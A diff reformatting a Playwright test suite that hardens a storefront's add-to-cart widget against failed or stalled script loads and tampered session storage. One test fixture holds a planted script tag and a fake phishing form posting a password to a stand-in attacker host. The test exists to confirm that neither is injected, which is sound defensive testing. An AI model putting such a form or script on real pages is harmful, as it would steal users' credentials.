@@ -18,7 +18,10 @@ const ours = (messages: { type: string; text: string }[]) => messages.filter((m)
 async function addIcons(page: Page): Promise<void> {
   await page.evaluate(() => {
     const svg = document.querySelector('.ajax_add_to_cart[data-product_id="318"]')!;
-    svg.insertAdjacentHTML('afterbegin', '<svg class="cart-icon" width="16" height="16" viewBox="0 0 16 16" aria-hidden="true" focusable="false"><g><path d="M0 0h16v16H0z"></path></g></svg> ');
+    svg.insertAdjacentHTML(
+      'afterbegin',
+      '<svg class="cart-icon" width="16" height="16" viewBox="0 0 16 16" aria-hidden="true" focusable="false"><g><path d="M0 0h16v16H0z"></path></g></svg> ',
+    );
     const font = document.querySelector('.ajax_add_to_cart[data-product_id="322"]')!;
     font.insertAdjacentHTML('afterbegin', '<i class="awb-icon-cart" aria-hidden="true"><span class="cart-glyph">+</span></i> ');
   });
@@ -42,7 +45,10 @@ describe.each(BUILD_TAGS)('runtime hardening, %s tag', (tag) => {
     await page.click('.ajax_add_to_cart[data-product_id="322"] i span');
     await page.waitForFunction(() => window.__mock!.state.cart.length === 2, null, { timeout: 10_000 });
     await page.waitForFunction(() => document.querySelectorAll('.ajax_add_to_cart.loading').length === 0);
-    expect(await cartLines(page)).toEqual([[318, 1], [322, 1]]);
+    expect(await cartLines(page)).toEqual([
+      [318, 1],
+      [322, 1],
+    ]);
     expect(page.url()).toBe(url);
     // Nothing stuck: a plain click afterwards reaches the mounted widget.
     await page.click('.ajax_add_to_cart[data-product_id="318"]');
@@ -52,15 +58,24 @@ describe.each(BUILD_TAGS)('runtime hardening, %s tag', (tag) => {
   });
 
   test('the chunk fails: the click on the icon still follows the link natively', async () => {
-    const { page } = await openPage('/shop.html', { tag, beforeGoto: (context) => context.route(ADD_TO_CART_CHUNK, (route) => route.abort('failed')) });
+    const { page } = await openPage('/shop.html', {
+      tag,
+      beforeGoto: (context) => context.route(ADD_TO_CART_CHUNK, (route) => route.abort('failed')),
+    });
     await addIcons(page);
-    await Promise.all([page.waitForURL(/[?&]add-to-cart=318/, { timeout: 10_000 }), page.click('.ajax_add_to_cart[data-product_id="318"] svg path')]);
+    await Promise.all([
+      page.waitForURL(/[?&]add-to-cart=318/, { timeout: 10_000 }),
+      page.click('.ajax_add_to_cart[data-product_id="318"] svg path'),
+    ]);
   });
 
   test('the chunk stalls: after a few seconds the held click follows the link, with one warning naming the widget', async () => {
     const { page, messages } = await openPage('/shop.html', { tag, beforeGoto: (context) => context.route(ADD_TO_CART_CHUNK, () => {}) });
     await addIcons(page);
-    await Promise.all([page.waitForURL(/[?&]add-to-cart=322/, { timeout: 10_000 }), page.click('.ajax_add_to_cart[data-product_id="322"] i span')]);
+    await Promise.all([
+      page.waitForURL(/[?&]add-to-cart=322/, { timeout: 10_000 }),
+      page.click('.ajax_add_to_cart[data-product_id="322"] i span'),
+    ]);
     const warnings = ours(messages).filter((m) => m.type === 'warning');
     expect(warnings).toHaveLength(1);
     expect(warnings[0]!.text).toMatch(/add-to-cart: .*did not load/);
@@ -88,21 +103,29 @@ describe.each(BUILD_TAGS)('runtime hardening, %s tag', (tag) => {
   });
 
   test('stored fragments with foreign keys: only the mini-cart is swapped, never a script, and the shop answers the rest', async () => {
-    const core = '<div class="widget_shopping_cart_content"><ul class="woocommerce-mini-cart cart_list product_list_widget "><li class="woocommerce-mini-cart-item mini_cart_item"><a href="/product/canvas-tote/">Canvas tote</a><span class="quantity">1 &times; 24</span></li></ul><script id="planted">window.planted = true</script></div>';
+    const core =
+      '<div class="widget_shopping_cart_content"><ul class="woocommerce-mini-cart cart_list product_list_widget "><li class="woocommerce-mini-cart-item mini_cart_item"><a href="/product/canvas-tote/">Canvas tote</a><span class="quantity">1 &times; 24</span></li></ul><script id="planted">window.planted = true</script></div>';
     const stored = {
       'div.widget_shopping_cart_content': core,
-      'header.fusion-header-wrapper': '<header class="fusion-header-wrapper"><form id="phish" action="https://evil.example/"><label>Password <input name="pwd"></label></form></header>',
+      'header.fusion-header-wrapper':
+        '<header class="fusion-header-wrapper"><form id="phish" action="https://evil.example/"><label>Password <input name="pwd"></label></form></header>',
       html: '<html><body><p id="replaced-page">gone</p></body></html>',
     };
     const { page, messages, errors } = await openPage('/shop.html', {
       tag,
       storage: {
         cookies: { woocommerce_cart_hash: 'aaaabbbbccccddddaaaabbbbccccdddd', woocommerce_items_in_cart: '1' },
-        session: { [FRAGMENT_NAME]: JSON.stringify(stored), [HASH_KEY]: 'aaaabbbbccccddddaaaabbbbccccdddd', wc_cart_created: String(Date.now() - 1000) },
+        session: {
+          [FRAGMENT_NAME]: JSON.stringify(stored),
+          [HASH_KEY]: 'aaaabbbbccccddddaaaabbbbccccdddd',
+          wc_cart_created: String(Date.now() - 1000),
+        },
         local: { [HASH_KEY]: 'aaaabbbbccccddddaaaabbbbccccdddd' },
       },
     });
-    await page.waitForFunction(() => window.__mock!.state.log.some((e) => e.endpoint === 'get_refreshed_fragments'), null, { timeout: 10_000 });
+    await page.waitForFunction(() => window.__mock!.state.log.some((e) => e.endpoint === 'get_refreshed_fragments'), null, {
+      timeout: 10_000,
+    });
     await page.evaluate(() => window.StorefrontIslands!.ready());
     expect(await page.$('#phish')).toBeNull();
     expect(await page.$('#replaced-page')).toBeNull();
